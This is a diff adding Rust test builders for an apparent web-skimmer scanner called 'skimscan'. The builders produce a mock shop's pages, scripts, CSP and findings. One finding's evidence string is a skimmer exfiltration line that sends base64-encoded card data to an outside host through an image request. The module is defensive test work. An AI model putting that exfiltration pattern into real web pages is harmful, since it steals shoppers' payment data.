@@ -1,0 +1,224 @@
+//! Builders for the baseline tests: a small shop (home page and checkout) as the scan pipeline
+//! would report it, with per-request tokens in the inline scripts, and the variations the
+//! issue's scenarios need (a skimmer appended, a library upgrade, a CSP removed, a new
+//! third-party script, a new destination).
+#![allow(dead_code)]
+
+use skimscan::finding::{Finding, Severity, Verdict};
+use skimscan::inventory::{Party, ScriptKind, ScriptRecord, ScriptText, sha256_hex, sri_sha384};
+use skimscan::report::{PageRecord, Report, Tool};
+use std::collections::BTreeMap;
+use std::sync::Arc;
+
+pub const HOME: &str = "https://shop.example/";
+pub const CHECKOUT: &str = "https://shop.example/checkout/";
+pub const CHECKOUT_JS: &str = "https://shop.example/static/checkout.js";
+pub const LIB_JS: &str = "https://shop.example/static/lib.min.js";
+pub const STRIPE_JS: &str = "https://js.stripe.com/v3/";
+
+pub fn fixture(name: &str) -> String {
+    let p = format!(
+        "{}/tests/fixtures/baseline/{name}",
+        env!("CARGO_MANIFEST_DIR")
+    );
+    std::fs::read_to_string(&p).unwrap_or_else(|e| panic!("{p}: {e}"))
+}
+
+/// A site under construction: pages, scripts and their texts.
+#[derive(Clone, Default)]
+pub struct Site {
+    pub pages: Vec<PageRecord>,
+    pub scripts: Vec<ScriptRecord>,
+    pub sources: BTreeMap<String, ScriptText>,
+    pub findings: Vec<Finding>,
+    inline_n: BTreeMap<String, u32>,
+}
+
+impl Site {
+    pub fn page(mut self, url: &str, payment: bool, headers: &[(&str, &str)]) -> Site {
+        self.pages.push(PageRecord {
+            url: url.into(),
+            status: Some(200),
+            payment_form: payment,
+            headers: headers
+                .iter()
+                .map(|(a, b)| (a.to_string(), b.to_string()))
+                .collect(),
+            requested_url: None,
+            title: None,
+            encoding: Some("UTF-8".into()),
+            forms: vec![],
+            found_by: "target".into(),
+        });
+        self
+    }
+
+    pub fn external(mut self, page: &str, url: &str, text: &str, destinations: &[&str]) -> Site {
+        let host = url::Url::parse(url)
+            .ok()
+            .and_then(|u| u.host_str().map(str::to_string));
+        let party = if host.as_deref() == Some("shop.example") {
+            Party::First
+        } else {
+            Party::Third
+        };
+        self.scripts.push(ScriptRecord {
+            page: page.into(),
+            url: Some(url.into()),
+            kind: ScriptKind::External,
+            host,
+            party,
+            sha256: Some(sha256_hex(text.as_bytes())),
+            sri: Some(sri_sha384(text.as_bytes())),
+            integrity_attr: None,
+            size: Some(text.len() as u64),
+            baseline: None,
+            id: url.into(),
+            script_type: None,
+            analysed: true,
+            page_line: Some(5),
+            destinations: destinations.iter().map(|d| d.to_string()).collect(),
+        });
+        self.sources.insert(
+            url.into(),
+            ScriptText {
+                id: url.into(),
+                text: Arc::from(text),
+                line_offset: 1,
+                column_offset: 1,
+            },
+        );
+        self
+    }
+
+    pub fn inline(mut self, page: &str, text: &str) -> Site {
+        let n = self.inline_n.entry(page.to_string()).or_insert(0);
+        *n += 1;
+        let id = format!("{page}#inline-{n}");
+        self.scripts.push(ScriptRecord {
+            page: page.into(),
+            url: None,
+            kind: ScriptKind::Inline,
+            host: None,
+            party: Party::First,
+            sha256: Some(sha256_hex(text.as_bytes())),
+            sri: Some(sri_sha384(text.as_bytes())),
+            integrity_attr: None,
+            size: Some(text.len() as u64),
+            baseline: None,
+            id: id.clone(),
+            script_type: None,
+            analysed: true,
+            page_line: Some(10 + *n),
+            destinations: vec![],
+        });
+        self.sources.insert(
+            id.clone(),
+            ScriptText {
+                id,
+                text: Arc::from(text),
+                line_offset: 10 + *n,
+                column_offset: 1,
+            },
+        );
+        self
+    }
+
+    /// What the engine would report for an exfiltration flow in a script.
+    pub fn critical(mut self, page: &str, script: &str, host: &str) -> Site {
+        self.findings.push(Finding {
+            rule: "exfil-payment-data".into(),
+            severity: Severity::Critical,
+            title: "Payment card fields sent to an outside host".into(),
+            page: Some(page.into()),
+            script: Some(script.into()),
+            location: Some(skimscan::finding::Location { line: 3, column: 1 }),
+            hosts: vec![host.into()],
+            evidence: Some(format!("new Image().src='https://{host}/c?d='+btoa(v)")),
+            message: format!("card number sent to {host}"),
+            diff: None,
+        });
+        self
+    }
+
+    pub fn report(&self) -> Report {
+        Report {
+            schema_version: 1,
+            tool: Tool::default(),
+            started_at: "2026-11-24T10:00:00Z".into(),
+            finished_at: "2026-11-24T10:00:03Z".into(),
+            verdict: Verdict::from_findings(&self.findings),
+            complete: true,
+            pages: self.pages.clone(),
+            scripts: self.scripts.clone(),
+            removed: vec![],
+            findings: self.findings.clone(),
+            errors: vec![],
+        }
+    }
+}
+
+pub const CSP: &str = "default-src 'self'; script-src 'self' 'nonce-{NONCE}' https://js.stripe.com; connect-src 'self' https://api.stripe.com; form-action 'self'";
+
+/// The inline checkout configuration a Magento-like shop prints, with this response's tokens.
+pub fn checkout_config(form_key: &str, quote: &str, at: &str) -> String {
+    format!(
+        r#"
+    var FORM_KEY = '{form_key}';
+    window.checkoutConfig = {{"formKey":"{form_key}","quoteId":"{quote}","quoteData":{{"entity_id":"{}","created_at":"{at}"}},"storeCode":"default"}};
+"#,
+        quote.len() * 37
+    )
+}
+
+/// The shop as it was reviewed, rendered for one request (its tokens).
+pub fn shop(request: u32) -> Site {
+    let tokens = [
+        (
+            "Xy7pQ2aBcD4eFg9H",
+            "ABcd1234EfGh5678IjKl9012MnOp3456",
+            "2026-11-24 10:00:01",
+            "r4nd0mN0nce1",
+        ),
+        (
+            "k3Jd8Qw1Zx0PvN5m",
+            "Zz99Yy88Xx77Ww66Vv55Uu44Tt33Ss22",
+            "2026-11-25 23:59:59",
+            "0therN0nce22",
+        ),
+        (
+            "Mn4Bv5Cx6Za7Sd8F",
+            "Qq11Ww22Ee33Rr44Tt55Yy66Uu77Ii88",
+            "2026-12-01 08:30:00",
+            "th1rdN0nce333",
+        ),
+    ];
+    let (fk, quote, at, nonce) = tokens[request as usize % tokens.len()];
+    let csp = CSP.replace("{NONCE}", nonce);
+    Site::default()
+        .page(HOME, false, &[])
+        .external(HOME, LIB_JS, &fixture("lib-1.0.min.js"), &[])
+        .page(CHECKOUT, true, &[("content-security-policy", &csp)])
+        .external(CHECKOUT, LIB_JS, &fixture("lib-1.0.min.js"), &[])
+        .external(CHECKOUT, CHECKOUT_JS, &fixture("checkout.js"), &[])
+        .external(CHECKOUT, STRIPE_JS, &format!("/* stripe build {request} */ Stripe.v3=1;"), &["api.stripe.com"])
+        .inline(CHECKOUT, &checkout_config(fk, quote, at))
+        .inline(
+            CHECKOUT,
+            &format!("\n    var wc_checkout_params = {{\"update_order_review_nonce\":\"{}\",\"is_checkout\":\"1\"}};\n", &sha256_hex(fk.as_bytes())[..10]),
+        )
+}
+
+/// Replace one script's text (keeping its id and place) and its destinations.
+pub fn with_script_text(mut site: Site, id: &str, text: &str, destinations: &[&str]) -> Site {
+    for s in site.scripts.iter_mut().filter(|s| s.id == id) {
+        s.sha256 = Some(sha256_hex(text.as_bytes()));
+        s.sri = Some(sri_sha384(text.as_bytes()));
+        s.size = Some(text.len() as u64);
+        s.destinations = destinations.iter().map(|d| d.to_string()).collect();
+    }
+    if let Some(t) = site.sources.get_mut(id) {
+        t.text = Arc::from(text);
+    }
+    site
+}
